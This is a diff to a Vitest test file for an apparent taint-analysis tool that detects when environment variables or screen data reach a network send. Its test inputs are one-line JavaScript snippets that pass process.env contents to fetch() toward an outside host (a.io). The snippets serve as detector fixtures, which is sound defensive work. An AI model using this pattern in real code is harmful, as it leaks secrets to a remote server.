@@ -1,11 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import {
-  factLines,
   interpretJavaScript,
   pythonValueOf,
   valueOf,
 } from '../../../tests/taint/interpret-code.ts';
-import { ENVIRONMENT, SCREEN } from '../label.ts';
+import { ENVIRONMENT, SCREEN, VARIABLE } from '../label.ts';
 
 describe('callApi()', () => {
   it('passes the content of the arguments through an unknown function', () => {
@@ -37,14 +36,14 @@ describe('callApi()', () => {
   });
 
   it('calls the callbacks of unknown functions of a bundle only when these are listeners', () => {
-    const code = (call: string): string[] =>
-      factLines(
-        interpretJavaScript(`process.env.X.${call}((x) => fetch('http://a.io', x))`, true).facts,
-      ).filter((line) => line.startsWith('send'));
-    expect(code('on')).toEqual(['send fetch http://a.io']);
-    const { facts } = interpretJavaScript('f(process.env, (x) => fetch("http://a.io", x))', true);
-    const [sent] = facts.filter((f) => f.action === 'send');
-    expect(sent?.content.labels).toBe(0);
+    const sentBy = (method: string, isLarge: boolean): number | undefined => {
+      const text = `JSON.parse(process.env.X).${method}((x) => fetch('http://a.io', x))`;
+      const [sent] = interpretJavaScript(text, isLarge).facts.filter((f) => f.action === 'send');
+      return sent?.content.labels;
+    };
+    expect(sentBy('on', true)).toBe(VARIABLE);
+    expect(sentBy('on2', true)).toBe(0);
+    expect(sentBy('on2', false)).toBe(VARIABLE);
   });
 
   it('stores a screenshot into the buffer that it is saved to', () => {
